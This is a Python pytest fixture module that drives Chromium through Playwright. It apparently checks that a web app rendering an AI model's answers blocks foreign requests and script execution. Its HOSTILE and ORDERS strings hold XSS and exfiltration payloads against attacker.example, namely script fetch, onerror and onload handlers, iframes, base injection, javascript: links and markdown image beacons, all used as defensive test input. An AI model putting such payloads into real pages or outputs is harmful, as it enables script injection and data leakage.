"""A browser's visits to the house: what the model says there, and a watch over what pages do.

The fixtures are every module's here (`tests.ways.conftest`): a house, a browser, a visit.
"""

import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright

from tests.fakes.messages_turns import Turn, rejects, says, uses
from tests.ways.house import House, house

CHROMIUM = shutil.which("chromium")
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"]
PHONE = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}
ADA, DEV = "ada@example.com", "dev@example.com"
PASSWORD = "a-long-Pass-phrase-9"

HOSTILE = """Here you are.
![pixel](https://attacker.example/markdown.png?leak=1)
![ref][r]
<img src="https://attacker.example/html.png" onerror="alert(1)">
<script>fetch('https://attacker.example/script')</script>
<iframe src="https://attacker.example/frame"></iframe>
<svg onload="alert(2)"><image href="https://attacker.example/svg.png"/></svg>
<link rel="stylesheet" href="https://attacker.example/style.css">
<base href="https://attacker.example/">
[run me](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>)
[a friendly bank](https://attacker.example/bank)

[r]: https://attacker.example/reference.png
"""


ORDERS = 'orders: 1234567, late: 41 <img src="https://attacker.example/x.png" onerror="alert(5)">'
FIGURES = "There are **1,234,567** orders, about **1.2** million; 41 are late and 57 are lost."

needs_browser = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium"),
]


def answer(body: dict[str, Any]) -> Any:
    """The model of these tests: what it does is in the question."""
    last = body["messages"][-1]["content"]
    if not isinstance(last, str) and any(one.get("type") == "tool_result" for one in last):
        if "orders" in str(last):
            return says(FIGURES)
        hostile = "attacker" in str(last)
        return says(HOSTILE) if hostile else says("It is **noon**, says the clock.")
    asked = last if isinstance(last, str) else last[-1]["text"]
    return _first_turn(asked)


def _first_turn(asked: str) -> Turn | Any:
    if "write" in asked:
        return uses(("upstream__get_time", {}), ("upstream__write_note", {"text": "x"}))
    if "slow" in asked:
        return uses(("upstream__slow", {"seconds": 20 if "very" in asked else 2}))
    if "figures" in asked:
        return uses(("upstream__echo", {"text": ORDERS}))
    if "hostile" in asked:
        return uses(("upstream__echo", {"text": HOSTILE}), text=HOSTILE)
    if "unfounded" in asked:
        return says("Ask **omni2_analytics**: about *7*, they say.")
    if "fail" in asked:
        return rejects(400, "invalid_request_error", "No.")
    return uses(("upstream__get_time", {}), text="Let me look.")


@dataclass
class Watch:
    """What a context's pages did that nobody should see."""

    foreign: list[str] = field(default_factory=list)
    problems: list[str] = field(default_factory=list)


def set_up(browser: Browser, home: House, who: str) -> Any:
    """Set a password by the one-time link; the session that begins by it."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(home.setup_url(who))
    for number in (1, 2):
        page.fill(f"[name=new_password{number}]", PASSWORD)
    page.click("button[type=submit]")
    expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()
    state = context.storage_state()
    context.close()
    return state


def watched(context: BrowserContext, home: House) -> Watch:
    """Note every request to another host (and stop it), dialog, console error and page error."""
    watch = Watch()
    own = urlsplit(home.base).netloc

    def route(route: Any) -> None:
        if urlsplit(route.request.url).netloc == own:
            route.continue_()
            return
        watch.foreign.append(route.request.url)
        route.abort()

    def attach(page: Page) -> None:
        page.on("pageerror", lambda error: watch.problems.append(str(error)))
        page.on("dialog", lambda dialog: (watch.problems.append(dialog.message), dialog.dismiss()))
        page.on(
            "console",
            lambda said: watch.problems.append(said.text) if said.type == "error" else None,
        )

    context.route("**/*", route)
    context.on("page", attach)
    return watch


# --- Fixtures -------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def home() -> Iterator[House]:
    with house(answer) as open_house:
        yield open_house


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    # Two cores may be busy with other tests.
    expect.set_options(timeout=20_000)
    with sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield started
        started.close()


@pytest.fixture(scope="module")
def sessions(browser: Browser, home: House) -> dict[str, Any]:
    """Each person's session, after they have set their password by their link."""
    return {who: set_up(browser, home, who) for who in home.tokens}


@pytest.fixture
def visit(browser: Browser, home: House, sessions: dict[str, Any]) -> Iterator[Any]:
    """Open a page as somebody; at the end nothing foreign may have happened on it.

    Problems that hold the text `provoked` are the test's own doing.
    """
    opened = []

    def open_page(path: str = "/", who: str = DEV, *, provoked: str = "", **options: Any) -> Page:
        context = browser.new_context(storage_state=sessions[who], **options)
        opened.append((context, watched(context, home), provoked))
        page = context.new_page()
        page.goto(home.base + path)
        return page

    yield open_page
    for context, watch, provoked in opened:
        context.close()
        problems = [one for one in watch.problems if not provoked or provoked not in one]
        assert (watch.foreign, problems) == ([], [])


# --- On the page of questions ---------------------------------------------------------------------
def ask(page: Page, text: str) -> Any:
    """Type a question and send it by the keyboard; the article that will hold its answer."""
    articles = page.locator("article.question")
    earlier = articles.count()
    page.get_by_label("Your question").fill(text)
    page.keyboard.press("Enter")
    return articles.nth(earlier)


def overflow(page: Page) -> int:
    """By how many pixels the page is wider than its window."""
    wider: int = page.evaluate("document.documentElement.scrollWidth - innerWidth")
    return max(wider, 0)
